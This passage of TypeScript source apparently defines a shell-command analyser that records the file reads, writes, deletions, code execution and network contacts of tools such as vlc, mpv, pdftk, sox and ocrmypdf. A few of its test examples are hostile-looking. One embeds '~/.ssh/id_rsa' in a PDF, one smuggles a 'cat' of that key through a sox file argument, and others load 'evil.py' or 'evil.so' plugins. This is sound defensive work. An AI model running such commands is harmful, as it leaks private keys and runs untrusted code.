        case 'menu-cfg':
          ctx.apply('read', v);
          ctx.unknown(
            `\`${call.program} -${option}\` reads a configuration file, which can bind keys to shell commands`,
          );
          return;
        case 'input':
          if (/(^|:)(conf|file)=/.test(v.text) || !v.known)
            ctx.unknown(
              `\`${call.program} -input ${v.text}\` reads key bindings or commands, which can run shell commands`,
            );
          return;
        case 'vo': {
          const image = /^(jpeg|png|pnm|tga|gif89a|yuv4mpeg|md5sum)(?::.*outdir=([^:]+))?/.exec(v.text);
          if (image) ctx.write(`${ctx.path(image[2] ?? '.')}/*`);
          return;
        }
      }
    },
    (v) => playerInput(call, v),
  );
  if (dumpTo) ctx.apply('write', dumpTo);
  else if (dumps) ctx.write(ctx.path('stream.dump'));
}

function vlc(call: Call): void {
  const { ctx } = call;
  for (const v of call.operands) playerInput(call, v);
  for (const list of call.values('-I', '--intf', '--extraintf')) {
    for (const intf of list.text.split(':')) {
      if (/^(http|telnet|lua)$/.test(intf) && call.has('--lua-intf')) continue;
      if (intf === 'http' || intf === 'telnet') {
        const host = call.values(`--${intf}-host`)[0];
        serves(call, host, 'remote control of the player (and its files)', false);
      } else if (intf === 'rc' || intf === 'oldrc' || intf === 'cli') {
        const host = call.values('--rc-host', '--cli-host')[0];
        if (host) serves(call, host, 'remote control of the player (and its files)');
      } else if (intf === 'lua' || intf === 'luaintf')
        ctx.unknown(`\`${call.program}\` runs a Lua interface script`);
    }
  }
  for (const sout of call.values('--sout')) {
    if (!sout.known) {
      ctx.unknown(`\`${call.program}\` gets a stream output chain only known when the command runs`);
      continue;
    }
    const network =
      /\baccess=['"]?(http|https|udp|rtp|rtsp|srt|rtmp|mmsh|shout|icecast)|#?\b(rtp|http|rtsp|udp|srt|chromecast|shout)\{/i.test(
        sout.text,
      );
    for (const m of sout.text.matchAll(/\bdst=(?:"([^"]*)"|'([^']*)'|([^,}]+))/g)) {
      const dst = f(sout, (m[1] ?? m[2] ?? m[3] ?? '').trim());
      if (!network) {
        ctx.apply('write', dst);
        continue;
      }
      if (URL_SHAPE.test(dst.text)) ctx.contact(dst);
      else if (dst.text.startsWith(':') || dst.text.startsWith('0.0.0.0'))
        serves(call, f(dst, '0.0.0.0'), 'the stream', false);
      else ctx.host(dst.text.replace(/[:/].*$/, ''));
      ctx.sends();
    }
    if (network && !/\bdst=/.test(sout.text)) serves(call, undefined, 'the stream', false);
  }
}

// ---------------------------------------------------------------------------------------------
// Image optimizers and converters.

/** Optimizers rewrite their inputs unless told to write elsewhere. */
function optimizer(
  call: Call,
  opts: { out: string[]; dir: string[]; dry: string[]; tree?: string[]; backup?: string[] },
): void {
  const { ctx } = call;
  const inputs = call.operands.filter((o) => o.text !== '-');
  const tree = opts.tree !== undefined && call.has(...opts.tree);
  for (const file of inputs) ctx.apply(tree ? 'read-tree' : 'read', file);
  if (call.has(...opts.dry) || call.has(...opts.out)) return;
  const dir = call.values(...opts.dir)[0];
  if (dir) return ctx.apply(tree ? 'write-tree' : 'write-into', dir);
  for (const file of inputs) {
    ctx.apply(tree ? 'write-tree' : 'write', file);
    if (opts.backup && call.has(...opts.backup)) ctx.apply('write', f(file, `${file.text}.bak`));
  }
}

const WEBP_ONE = new Set(
  'q alpha_q preset z m segments size psnr sns f sharpness partition_limit pass qrange map alpha_method alpha_filter metadata hint near_lossless blend_alpha pre dither kmin kmax loop_count resize_mode o d lossless_level'.split(
    ' ',
  ),
);
const WEBP_TWO = new Set(['resize', 'scale', 's']);

function webp(call: Call): void {
  const { ctx } = call;
  walk(
    call,
    own(call),
    (t) => {
      if (!t.startsWith('-') || t === '-') return undefined;
      const name = t.slice(1);
      if (name === '-') return 0;
      return name === 'crop' ? 4 : WEBP_TWO.has(name) ? 2 : WEBP_ONE.has(name) ? 1 : 0;
    },
    (name, [v]) => {
      if (v && (name === '-o' || name === '-d') && v.text !== '-') ctx.apply('write', v);
    },
    (v) => {
      if (v.text !== '-') ctx.apply('read', v);
    },
  );
}

/** libjpeg's switches, matched by unique abbreviation as the programs do (`-outf`). */
const JPEG_SWITCHES: Array<[string, number]> = [
  ['outfile', 1],
  ['copy', 1],
  ['optimize', 0],
  ['progressive', 0],
  ['arithmetic', 0],
  ['restart', 1],
  ['scans', 1],
  ['grayscale', 0],
  ['greyscale', 0],
  ['flip', 1],
  ['rotate', 1],
  ['transpose', 0],
  ['transverse', 0],
  ['trim', 0],
  ['perfect', 0],
  ['crop', 1],
  ['drop', 2],
  ['wipe', 1],
  ['maxmemory', 1],
  ['maxscans', 1],
  ['verbose', 0],
  ['debug', 0],
  ['icc', 1],
  ['report', 0],
  ['strict', 0],
  ['version', 0],
  ['quality', 1],
  ['smooth', 1],
  ['baseline', 0],
  ['dct', 1],
  ['sample', 1],
  ['qtables', 1],
  ['qslots', 1],
  ['targa', 0],
  ['rgb', 0],
  ['colors', 1],
  ['scale', 1],
  ['fast', 0],
  ['bmp', 0],
  ['gif', 0],
  ['os2', 0],
  ['pnm', 0],
  ['ppm', 0],
  ['nosmooth', 0],
  ['onepass', 0],
  ['dither', 1],
  ['map', 1],
  ['skip', 1],
  ['memdst', 0],
  ['memsrc', 0],
  ['lossless', 1],
  ['precision', 1],
  ['strict', 0],
  ['max', 1],
];
function jpegSwitch(text: string): [string, number] | undefined {
  if (!text.startsWith('-') || text === '-') return undefined;
  const given = text.slice(1).toLowerCase();
  return (
    JPEG_SWITCHES.find(([name]) => name === given) ?? JPEG_SWITCHES.find(([name]) => name.startsWith(given))
  );
}

function libjpeg(call: Call): void {
  const { ctx } = call;
  const operands: Field[] = [];
  walk(
    call,
    own(call),
    (t) => (t.startsWith('-') && t !== '-' ? (jpegSwitch(t)?.[1] ?? 0) : undefined),
    (name, values) => {
      const option = jpegSwitch(name)?.[0];
      const last = values.at(-1);
      if (!last) return;
      if (option === 'outfile') ctx.apply('write', last);
      else if (
        option === 'scans' ||
        option === 'icc' ||
        option === 'drop' ||
        option === 'qtables' ||
        option === 'map'
      )
        ctx.apply('read', last);
    },
    (v) => operands.push(v),
  );
  const [input, output] = operands;
  if (input && input.text !== '-') ctx.apply('read', input);
  if (output && output.text !== '-') ctx.apply('write', output);
}

function svgo(call: Call): void {
  const { ctx } = call;
  const inputs: Field[] = [];
  const outputs: Field[] = [];
  let folder: Field | undefined;
  let list: Field[] | undefined;
  let recursive = false;
  walk(
    call,
    own(call),
    (t) => {
      if (!t.startsWith('-') || t === '-') return undefined;
      const name = t.split('=')[0]!;
      if (
        /^(-s|--string|-f|--folder|-p|--precision|--config|--datauri|--indent|--eol)$/.test(name) &&
        !t.includes('=')
      )
        return 1;
      return 0;
    },
    (name, [v], field) => {
      const key = name.split('=')[0]!;
      const value =
        v ?? (field.text.includes('=') ? f(field, field.text.slice(field.text.indexOf('=') + 1)) : undefined);
      list = undefined;
      if (key === '-i' || key === '--input') list = inputs;
      else if (key === '-o' || key === '--output') list = outputs;
      else if (key === '--exclude') list = [];
      else if (key === '-r' || key === '--recursive') recursive = true;
      else if ((key === '-f' || key === '--folder') && value) folder = value;
      else if (key === '--config' && value) {
        ctx.runsFile(value, 'code:javascript');
        ctx.unknown(`\`${call.program}\` loads a configuration file, which is JavaScript (\`--config\`)`);
      }
      if (value && list) list.push(value);
    },
    (v) => (list ?? inputs).push(v),
  );
  for (const input of inputs) if (input.text !== '-') ctx.apply('read', input);
  if (folder) ctx.apply(recursive ? 'read-tree' : 'read', folder);
  if (outputs.length > 0) {
    for (const output of outputs) if (output.text !== '-') ctx.apply(folder ? 'write-into' : 'write', output);
    return;
  }
  if (folder) ctx.apply(recursive ? 'write-tree' : 'write-into', folder);
  for (const input of inputs) if (input.text !== '-') ctx.apply('write', input);
}

const PDF_AUDIO_PLAYERS = definePrograms([
  {
    names: ['pdftotext'],
    summary: 'extract the text of a PDF',
    options: poppler(
      '-f|-l|-r|-x|-y|-W|-H|-fixed|-enc|-eol|-colspacing|-mbox',
      '-layout|-simple|-simple2|-lineprinter|-raw|-htmlmeta|-bbox|-bbox-layout|-tsv|-cropbox|-nodiag|-nopgbrk|-listenc',
    ),
    operands: ['read', 'write'],
    custom(call) {
      const [input, output] = call.operands;
      if (!output && input?.known && input.text !== '-')
        call.ctx.apply('write', f(input, `${stem(input.text)}.txt`));
    },
    examples: [
      {
        cmd: 'pdftotext -layout -f 1 -l 3 doc.pdf out.txt',
        reads: ['doc.pdf'],
        writes: ['out.txt'],
        only: true,
      },
      { cmd: 'pdftotext doc.pdf', reads: ['doc.pdf'], writes: ['doc.txt'], only: true },
      { cmd: 'pdftotext doc.pdf -', reads: ['doc.pdf'], only: true },
    ],
  },
  {
    names: ['pdftoppm', 'pdftocairo'],
    summary: 'render PDF pages as images (or PostScript, SVG, PDF)',
    options: poppler(
      '-f|-l|-r|-rx|-ry|-scale-to|-scale-to-x|-scale-to-y|-x|-y|-W|-H|-sep|-jpegopt|-tiffcompression|-freetype|-thinlinemode|-aa|-aaVector|-antialias|-paper|-paperw|-paperh|-printer|-printopt',
      '-o|-e|-singlefile|-cropbox|-hide-annotations|-mono|-gray|-png|-jpeg|-jpegcmyk|-tiff|-forcenum|-overprint|-scale-dimension-before-rotation|-progress|-ps|-eps|-pdf|-svg|-print|-printdlg|-origpagesizes|-nocrop|-expand|-noshrink|-nocenter|-level2|-level3|-duplex|-transp|-setupdlg|-struct',
      { '-icc|-displayprofile|-defaultgrayprofile|-defaultrgbprofile|-defaultcmykprofile': 'read' },
    ),
    operands: ['read', 'value'],
    custom(call) {
      const [input, root] = call.operands;
      const base =
        root ?? (call.program === 'pdftocairo' && input?.known ? f(input, stem(input.text)) : undefined);
      if (base && base.text !== '-') call.ctx.apply('write', f(base, `${base.text}*`));
    },
    examples: [
      { cmd: 'pdftoppm -png -r 150 doc.pdf page', reads: ['doc.pdf'], writes: ['page*'], only: true },
      { cmd: 'pdftocairo -svg doc.pdf', reads: ['doc.pdf'], writes: ['doc*'], only: true },
    ],
  },
  {
    names: ['pdfinfo', 'pdffonts'],
    summary: 'describe a PDF',
    options: poppler(
      '-f|-l|-enc',
      '-box|-meta|-custom|-js|-struct|-struct-text|-url|-isodates|-rawdates|-dests|-listenc|-subst|-loc|-locPS',
    ),
    operands: ['read...'],
    readonly: true,
    examples: [{ cmd: 'pdfinfo -meta doc.pdf', reads: ['doc.pdf'], only: true }],
  },
  {
    names: ['pdfimages'],
    summary: 'extract the images of a PDF',
    options: poppler('-f|-l', '-j|-jp2|-jbig2|-ccitt|-tiff|-png|-all|-list|-p|-print-filenames'),
    operands: ['read', 'value'],
    custom(call) {
      const [, root] = call.operands;
      if (root && !call.has('-list')) call.ctx.apply('write', f(root, `${root.text}*`));
    },
    examples: [
      { cmd: 'pdfimages -png doc.pdf img/fig', reads: ['doc.pdf'], writes: ['img/fig*'], only: true },
      { cmd: 'pdfimages -list doc.pdf', reads: ['doc.pdf'], only: true },
    ],
  },
  {
    names: ['pdfunite'],
    summary: 'join PDFs into one',
    options: { '-v|-h|-help|--help|-?': 'flag' },
    operands: ['read...', 'write'],
    examples: [
      { cmd: 'pdfunite a.pdf b.pdf all.pdf', reads: ['a.pdf', 'b.pdf'], writes: ['all.pdf'], only: true },
    ],
  },
  {
    names: ['pdfseparate'],
    summary: 'split a PDF into one file per page',
    options: { '-f|-l': 'value', '-v|-h|-help|--help|-?': 'flag' },
    operands: ['read', 'value'],
    custom(call) {
      const [, pattern] = call.operands;
      if (pattern) call.ctx.apply('write', f(pattern, sequence(pattern.text)));
    },
    examples: [
      { cmd: 'pdfseparate -f 2 doc.pdf page-%d.pdf', reads: ['doc.pdf'], writes: ['page-*.pdf'], only: true },
    ],
  },
  {
    names: ['pdfdetach'],
    summary: 'list and save the files attached to a PDF',
    options: poppler('-save|-savefile|-enc', '-list|-saveall', { '-o': 'value' }),
    operands: ['read'],
    custom(call) {
      const { ctx } = call;
      if (!call.has('-save', '-savefile', '-saveall')) return;
      const out = call.values('-o')[0];
      if (out) ctx.apply(call.has('-saveall') ? 'write-into' : 'write', out);
      else ctx.write(`${ctx.path('.')}/*`);
    },
    examples: [
      { cmd: 'pdfdetach -list doc.pdf', reads: ['doc.pdf'], only: true },
      { cmd: 'pdfdetach -saveall -o att doc.pdf', writes: ['att/*'], only: true },
    ],
  },
  {
    names: ['pdfsig'],
    summary: 'verify or add PDF signatures',
    options: poppler(
      '-nss-pwd|-nick|-kpw|-digest|-reason|-etsi|-backend|-sign|-assert-signer|-aia',
      '-nocert|-no-ocsp|-no-appearance|-dump|-add-signature|-list-nicks|-etsi',
      { '-nssdir': 'read-tree' },
    ),
    operands: ['read', 'write'],
    examples: [{ cmd: 'pdfsig signed.pdf', reads: ['signed.pdf'], only: true }],
  },
  {
    names: ['pdfattach'],
    summary: 'attach a file to a PDF',
    options: { '-replace|-v|-h|-help|--help|-?': 'flag' },
    operands: ['read', 'read', 'write'],
    examples: [
      {
        cmd: 'pdfattach doc.pdf data.csv out.pdf',
        reads: ['doc.pdf', 'data.csv'],
        writes: ['out.pdf'],
        only: true,
      },
    ],
  },
  {
    names: ['pdftohtml', 'pdftops'],
    summary: 'convert a PDF to HTML or PostScript',
    options: poppler(
      '-f|-l|-zoom|-enc|-fmt|-wbt|-paper|-paperw|-paperh|-r|-processcolorformat|-aaRaster|-rasterize',
      '-p|-c|-s|-dataurls|-i|-noframes|-stdout|-xml|-noroundcoord|-hidden|-nomerge|-nodrm|-fontfullname|-level1|-level1sep|-level2|-level2sep|-level3|-level3sep|-eps|-form|-opi|-binary|-noembt1|-noembtt|-noembcidps|-noembcidtt|-passfonts|-duplex|-nocrop|-expand|-noshrink|-nocenter|-origpagesizes|-overprint|-optimizecolorspace|-passlevel1customcolor',
      { '-processcolorprofile': 'read' },
    ),
    operands: ['read', 'value'],
    custom(call) {
      const [input, out] = call.operands;
      if (call.has('-stdout') || out?.text === '-') return;
      const base = out ?? (input?.known ? f(input, stem(input.text)) : undefined);
      if (!base) return;
      if (call.program === 'pdftops')
        call.ctx.apply('write', out ?? f(base, `${base.text}.${call.has('-eps') ? 'eps' : 'ps'}`));
      else call.ctx.apply('write', f(base, `${stem(base.text)}*`));
    },
    examples: [
      { cmd: 'pdftohtml -s doc.pdf out', reads: ['doc.pdf'], writes: ['out*'], only: true },
      { cmd: 'pdftops doc.pdf', reads: ['doc.pdf'], writes: ['doc.ps'], only: true },
    ],
  },
  {
    names: ['qpdf'],
    summary: 'transform, inspect, encrypt and split PDFs',
    operands: ['value...'],
    rewrite: OWN,
    custom: qpdf,
    examples: [
      { cmd: 'qpdf --linearize in.pdf out.pdf', reads: ['in.pdf'], writes: ['out.pdf'], only: true },
      {
        cmd: 'qpdf --empty --pages a.pdf 1-3 b.pdf z -- merged.pdf',
        reads: ['a.pdf', 'b.pdf'],
        writes: ['merged.pdf'],
        only: true,
      },
      {
        cmd: 'qpdf --encrypt user owner 256 --print=none -- in.pdf locked.pdf',
        reads: ['in.pdf'],
        writes: ['locked.pdf'],
        only: true,
      },
      { cmd: 'qpdf --check in.pdf', reads: ['in.pdf'], only: true },
      { cmd: 'qpdf --replace-input --object-streams=generate in.pdf', writes: ['in.pdf'], only: true },
      { cmd: 'qpdf --split-pages in.pdf out-%d.pdf', writes: ['out-*.pdf'], only: true },
      { cmd: 'qpdf @args.txt', unknown: 'more arguments' },
      { cmd: 'qpdf --job-json-file=job.json', unknown: 'JSON job file' },
    ],
  },
  {
    names: ['mutool'],
    summary: 'MuPDF tools: render, convert, clean, merge and script PDFs',
    options: { '-o': 'write', '-p': 'value', '-U': 'read' },
    operands: ['read...'],
    subcommands: {
      'draw|convert': {
        options: {
          '-F|-O|-r|-w|-h|-R|-B|-T|-W|-H|-S|-c|-e|-G|-s|-A|-b|-x|-y|-K|-L|-P|-t|-z': 'value',
          '-q|-f|-X|-a|-I|-D|-N|-i|-l|-m|-k|-j|-J|-v|-d': 'flag',
        },
        operands: ['read', 'value...'],
      },
      clean: {
        options: {
          '-O': 'value',
          '-g|-gg|-ggg|-gggg|-l|-a|-d|-e|-f|-i|-c|-s|-t|-z|-A|-AA|-m|-D|-E|-Z': 'flag',
        },
        operands: ['read', 'write', 'value...'],
        custom(call) {
          if (call.operands.length < 2) call.ctx.write(call.ctx.path('out.pdf'));
        },
      },
      'merge|create': {
        operands: ['read...'],
        custom(call) {
          if (!call.has('-o')) call.ctx.write(call.ctx.path('out.pdf'));
        },
      },
      extract: {
        options: { '-a|-r|-N': 'flag' },
        operands: ['read', 'value...'],
        custom(call) {
          call.ctx.write(`${call.ctx.path('.')}/*`);
        },
      },
      poster: { options: { '-x|-y|-r|-m': 'value' }, operands: ['read', 'write'] },
      'info|show|pages|trace|grep|audit|barcode': {
        options: { '-b|-e|-g|-r|-t|-M|-F|-I|-P|-S|-X|-x|-i|-w|-h|-v|-a|-c|-d|-s|-q|-R|-l': 'flag' },
        operands: ['read', 'value...'],
      },
      sign: { options: { '-s|-P|-c|-v|-o': 'value' }, operands: ['read', 'value...'] },
      run: {
        operands: ['value...'],
        custom(call) {
          const [script] = call.operands;
          if (script) call.ctx.runsFile(script, 'code:javascript');
        },
      },
    },
    examples: [
      {
        cmd: 'mutool draw -o page%d.png -r 150 doc.pdf 1-3',
        reads: ['doc.pdf'],
        writes: ['page%d.png'],
        only: true,
      },
      { cmd: 'mutool clean -gggg in.pdf out.pdf', reads: ['in.pdf'], writes: ['out.pdf'], only: true },
      {
        cmd: 'mutool merge -o all.pdf a.pdf b.pdf',
        reads: ['a.pdf', 'b.pdf'],
        writes: ['all.pdf'],
        only: true,
      },
      { cmd: 'mutool info doc.pdf', reads: ['doc.pdf'], only: true },
      { cmd: 'mutool run script.js doc.pdf', executes: ['script.js'] },
    ],
  },
  {
    names: ['pdftk', 'pdftk-java'],
    summary: 'merge, split, stamp and fill PDFs',
    operands: ['value...'],
    rewrite: OWN,
    custom: pdftk,
    examples: [
      {
        cmd: 'pdftk A=a.pdf B=b.pdf cat A1-3 B output merged.pdf',
        reads: ['a.pdf', 'b.pdf'],
        writes: ['merged.pdf'],
        only: true,
      },
      {
        cmd: 'pdftk in.pdf stamp mark.pdf output out.pdf',
        reads: ['in.pdf', 'mark.pdf'],
        writes: ['out.pdf'],
        only: true,
      },
      { cmd: 'pdftk in.pdf dump_data output -', reads: ['in.pdf'], only: true },
      { cmd: 'pdftk in.pdf burst', writes: ['pg_*.pdf', 'doc_data.txt'], only: true, reads: ['in.pdf'] },
      {
        cmd: 'pdftk in.pdf attach_files /h/.ssh/id_rsa output out.pdf',
        reads: ['~/.ssh/id_rsa'],
        writes: ['out.pdf'],
      },
      { cmd: 'pdftk in.pdf $REST', unknown: 'several words' },
    ],
  },
  {
    names: ['ocrmypdf'],
    summary: 'add an OCR text layer to a PDF',
    options: {
      '-l|--language|--output-type|--pdf-renderer|-j|--jobs|-O|--optimize|--tesseract-timeout|--rotate-pages-threshold|--pages|--unpaper-args|--tesseract-thresholding|--title|--author|--subject|--keywords|--pdfa-image-compression|--color-conversion-strategy|--max-image-mpixels|--tesseract-oem|--tesseract-pagesegmode|--tesseract-downsample-above|--skip-big|--jbig2-threshold|--png-quality|--jpeg-quality|--jpg-quality|--fast-web-view|--oversample|--image-dpi|--tesseract-non-ocr-timeout|--mode|-m':
        'value',
      '--sidecar': 'write',
      '--user-words|--user-patterns|--tesseract-config': 'read',
      '--plugin': { takes: 'value', unknown: 'loads a Python plugin' },
      '-f|--force-ocr|-s|--skip-text|--redo-ocr|-r|--rotate-pages|-d|--deskew|-c|--clean|-i|--clean-final|--remove-background|--remove-vectors|-q|--quiet|-v|--verbose|-k|--keep-temporary-files|--invalidate-digital-signatures|--jbig2-lossy|--no-progress-bar|--tesseract-downsample-large-images|--continue-on-soft-render-error|--version|-h|--help|--use-threads|--no-use-threads|--output-type=pdf':
        'flag',
    },
    operands: ['read', 'write'],
    examples: [
      {
        cmd: 'ocrmypdf -l eng+deu --deskew --sidecar out.txt scan.pdf out.pdf',
        reads: ['scan.pdf'],
        writes: ['out.txt', 'out.pdf'],
        only: true,
      },
      { cmd: 'ocrmypdf --plugin ./evil.py in.pdf out.pdf', unknown: 'Python plugin' },
    ],
  },
  {
    names: ['tesseract'],
    summary: 'recognise text in images (OCR)',
    options: {
      '--tessdata-dir': 'read-tree',
      '--user-words|--user-patterns': 'read',
      '--dpi|-l|--psm|--oem|-c|--loglevel': 'value',
      '--list-langs|--print-parameters|--print-fonts-table|-v|--version|-h|--help|--help-extra|--help-psm|--help-oem':
        'flag',
    },
    operands: ['value...'],
    custom(call) {
      const { ctx } = call;
      const [image, base, ...configs] = call.operands;
      if (image && !/^(stdin|-)$/.test(image.text)) ctx.apply('read', image);
      if (base && !/^(stdout|-)$/.test(base.text)) ctx.apply('write', f(base, `${base.text}.*`));
      for (const config of configs) if (config.text.includes('/')) ctx.apply('read', config);
    },
    examples: [
      {
        cmd: 'tesseract scan.png out -l eng --psm 6 pdf',
        reads: ['scan.png'],
        writes: ['out.*'],
        only: true,
      },
      { cmd: 'tesseract scan.png stdout', reads: ['scan.png'], only: true },
    ],
  },
  {
    names: ['sox', 'play', 'rec'],
    summary: 'SoX: convert, play, record and process audio',
    operands: ['value...'],
    rewrite: OWN,
    custom: sox,
    examples: [
      {
        cmd: 'sox in.wav -r 16000 -c 1 out.wav trim 0 10 gain -n',
        reads: ['in.wav'],
        writes: ['out.wav'],
        only: true,
      },
      { cmd: 'sox a.wav b.wav joined.wav', reads: ['a.wav', 'b.wav'], writes: ['joined.wav'], only: true },
      { cmd: 'sox -n -r 44100 tone.wav synth 3 sine 440', writes: ['tone.wav'], only: true },
      { cmd: 'sox in.wav -n stat', reads: ['in.wav'], only: true },
      {
        cmd: 'sox noise.wav -n noiseprof noise.prof',
        writes: ['noise.prof'],
        only: true,
        reads: ['noise.wav'],
      },
      { cmd: 'play song.mp3 trim 0 30', reads: ['song.mp3'], only: true },
      { cmd: 'rec -c 1 memo.wav trim 0 5', reads: ['/dev/snd/*'], writes: ['memo.wav'], only: true },
      { cmd: 'sox "|cat /h/.ssh/id_rsa" out.wav', runs: ['cat'], reads: ['~/.ssh/id_rsa'] },
      { cmd: 'sox in.wav out.wav ladspa /tmp/evil.so x', unknown: 'LADSPA' },
    ],
  },
  {
    names: ['soxi'],
    summary: 'describe audio files',
    options: { '-V|-T|-t|-r|-c|-s|-d|-D|-b|-B|-p|-e|-a': 'flag' },
    operands: ['read...'],
    readonly: true,
    examples: [{ cmd: 'soxi -D song.flac', reads: ['song.flac'], only: true }],
  },
  {
    names: ['lame'],
    summary: 'encode MP3 audio',
    options: {
      '-b|-B|-V|-q|-m|-s|--resample|--preset|--abr|--tt|--ta|--tl|--ty|--tc|--tn|--tg|--tv|--lowpass|--lowpass-width|--highpass|--highpass-width|--scale|--scale-l|--scale-r|--bitwidth|--priority|--disptime|--pad-id3v2-size|--athtype|--athlower|--vbr-old|--ns-bass|--ns-alto|--ns-treble|--ns-sfb21|--interch|--substep|--cwlimit|--comp|--nspsytune|--noasm|-Y|-X|-Z':
        'value',
      '--ti': 'read',
      '--out-dir': 'write-into',
      '-h|-f|-k|--quiet|--silent|-S|--decode|--nohist|--noreplaygain|--replaygain-fast|--replaygain-accurate|--clipdetect|-a|-x|--mp3input|--flush|--strictly-enforce-ISO|-p|--nores|--cbr|--vbr-new|--id3v1-only|--id3v2-only|--add-id3v2|--ignore-tag-errors|-t|-r|--big-endian|--little-endian|--signed|--unsigned|-c|-o|--verbose|--help|-?|--version|--license|--longhelp|--brief|--nogap|--nogaptags|--id3v2-utf16|--id3v2-latin1|--genre-list|--freeformat|--noath|--nospsytune|--allshort|--short|--noshort|--notemp|--temporal-masking|--lowpass|--preset|-e|-d|-j|-mj':
        'flag',
    },
    operands: ['read', 'write'],
    custom(call) {
      const [input, output] = call.operands;
      if (!output && !call.has('--out-dir') && input?.known && input.text !== '-')
        call.ctx.apply('write', f(input, `${stem(input.text)}.${call.has('--decode') ? 'wav' : 'mp3'}`));
    },
    examples: [
      { cmd: 'lame -V 2 --tt Title in.wav out.mp3', reads: ['in.wav'], writes: ['out.mp3'], only: true },
      { cmd: 'lame in.wav', reads: ['in.wav'], writes: ['in.mp3'], only: true },
    ],
  },
  {
    names: ['flac'],
    summary: 'encode and decode FLAC audio',
    options: {
      '-o|--output-name': 'write',
      '--output-prefix': 'value',
      '-T|--tag|-S|--seekpoint|-P|--padding|-b|--blocksize|-l|--max-lpc-order|-q|--qlp-coeff-precision|-r|--rice-partition-order|-A|--apodization|--endian|--sign|--channels|--bps|--sample-rate|--input-size|--skip|--until|--serial-number|--cue|-j|--threads':
        'value',
      '--tag-from-file|--picture|--cuesheet': 'value',
      '--delete-input-file': 'flag',
      '-d|--decode|-t|--test|-a|--analyze|-c|--stdout|-s|--silent|-f|--force|--keep-foreign-metadata|--keep-foreign-metadata-if-present|-0|-1|-2|-3|-4|-5|-6|-7|-8|--fast|--best|-e|--exhaustive-model-search|-p|--qlp-coeff-precision-search|-m|--mid-side|-M|--adaptive-mid-side|-V|--verify|-w|--warnings-as-errors|-F|--decode-through-errors|--ogg|--lax|--force-raw-format|--force-aiff-format|--force-rf64-format|--force-wave64-format|--no-utf8-convert|--residual-text|--residual-gnuplot|--totally-silent|--replay-gain|--preserve-modtime|--no-preserve-modtime|--help|-H|-v|--version|--ignore-chunk-sizes|--no-seektable|--no-padding|--no-keep-foreign-metadata':
        'flag',
    },
    operands: ['read...'],
    custom(call) {
      const { ctx } = call;
      for (const spec of call.values('--tag-from-file'))
        ctx.apply('read', f(spec, spec.text.replace(/^[^=]*=/, '')));
      for (const spec of call.values('--picture')) {
        const file = spec.text.split('|').at(-1)!;
        if (URL_SHAPE.test(file)) ctx.contact(f(spec, file));
        else ctx.apply('read', f(spec, file));
      }
      for (const sheet of call.values('--cuesheet')) ctx.apply('read', sheet);
      const inputs = call.operands.filter((o) => o.text !== '-');
      if (call.has('--delete-input-file')) for (const input of inputs) ctx.apply('delete', input);
      if (call.has('-t', '--test', '-c', '--stdout', '-o', '--output-name')) return;
      const prefix = call.values('--output-prefix')[0]?.text ?? '';
      const ext = call.has('-a', '--analyze') ? 'ana' : call.has('-d', '--decode') ? 'wav' : 'flac';
      for (const input of inputs)
        ctx.apply(
          'write',
          f(input, `${prefix}${stem(prefix ? input.text.replace(/^.*\//, '') : input.text)}.${ext}`),
        );
    },
    examples: [
      { cmd: 'flac -8 --verify song.wav', reads: ['song.wav'], writes: ['song.flac'], only: true },
      { cmd: 'flac -d -o out.wav song.flac', reads: ['song.flac'], writes: ['out.wav'], only: true },
      { cmd: 'flac --delete-input-file song.wav', deletes: ['song.wav'] },
    ],
  },
  {
    names: ['metaflac'],
    summary: 'list and edit FLAC metadata',
    options: {
      '--import-picture-from|--import-tags-from|--import-cuesheet-from': { takes: 'read', attached: true },
      '--export-picture-to|--export-tags-to|--export-cuesheet-to': { takes: 'write', attached: true },
      '--set-tag-from-file': { takes: 'value', attached: true },
      '--show-tag|--remove-tag|--remove-first-tag|--set-tag|--block-number|--except-block-number|--block-type|--except-block-type|--add-seekpoint|--add-padding|--set-md5sum|--set-min-blocksize|--set-max-blocksize|--set-min-framesize|--set-max-framesize|--set-sample-rate|--set-channels|--set-bps|--set-total-samples|--application-data-format|--data-format':
        { takes: 'value', attached: true },
      '--list|--show-md5sum|--show-min-blocksize|--show-max-blocksize|--show-min-framesize|--show-max-framesize|--show-sample-rate|--show-channels|--show-bps|--show-total-samples|--show-vendor-tag|--show-all-tags|--preserve-modtime|--with-filename|--no-filename|--no-utf8-convert|--dont-use-padding|--help|--version|--remove-all-tags|--remove-replay-gain|--add-replay-gain|--scan-replay-gain|--remove|--remove-all|--merge-padding|--sort-padding':
        'flag',
    },
    operands: ['read...'],
    custom(call) {
      const { ctx } = call;
      for (const spec of call.values('--set-tag-from-file'))
        ctx.apply('read', f(spec, spec.text.replace(/^[^=]*=/, '')));
      const edits = call.args.some(
        (a) => a.known && /^--(remove|set-|add-|import-|merge-|sort-)/.test(a.text),
      );
      if (edits) for (const file of call.operands) ctx.apply('write', file);
    },
    examples: [
      { cmd: 'metaflac --list --block-type=VORBIS_COMMENT song.flac', reads: ['song.flac'], only: true },
      {
        cmd: 'metaflac --set-tag=ARTIST=Me --import-picture-from=cover.jpg song.flac',
        reads: ['cover.jpg'],
        writes: ['song.flac'],
        only: true,
      },
    ],
  },
  {
    names: ['opusenc', 'opusdec'],
    summary: 'encode and decode Opus audio',
    options: {
      '--bitrate|--comp|--framesize|--expect-loss|--max-delay|--comment|--artist|--title|--album|--date|--genre|--tracknumber|--padding|--serial|--set-ctl-int|--raw-bits|--raw-rate|--raw-chan|--raw-endianness|--rate|--gain|--packet-loss':
        'value',
      '--picture': 'read',
      '--save-range': 'write',
      '--vbr|--cvbr|--hard-cbr|--music|--speech|--downmix-mono|--downmix-stereo|--no-phase-inv|--quiet|--raw|--help|-h|-V|--version|--help-picture|--discard-comments|--discard-pictures|--ignorelength|--force-wav|--float|--force-stereo|--no-dither':
        'flag',
    },
    operands: ['read', 'write'],
    examples: [
      {
        cmd: 'opusenc --bitrate 96 --title T in.wav out.opus',
        reads: ['in.wav'],
        writes: ['out.opus'],
        only: true,
      },
    ],
  },
  {
    names: ['mpv'],
    summary: 'play audio, video and streams',
    options: {
      '--script|--scripts|--scripts-append|--scripts-add|--scripts-set': {
        takes: 'read',
        unknown: 'loads a Lua or JavaScript script',
      },
      '--config-dir': { takes: 'read-tree', unknown: 'loads mpv.conf and scripts from another folder' },
      '--include': { takes: 'read', unknown: 'reads a configuration file, which can load scripts' },
      '--input-conf': { takes: 'read', unknown: 'reads key bindings, which can run programs' },
      '--input-ipc-server': {
        takes: 'write',
        unknown: 'opens a control socket through which other programs can make it run commands',
      },
      '--input-ipc-client': {
        takes: 'value',
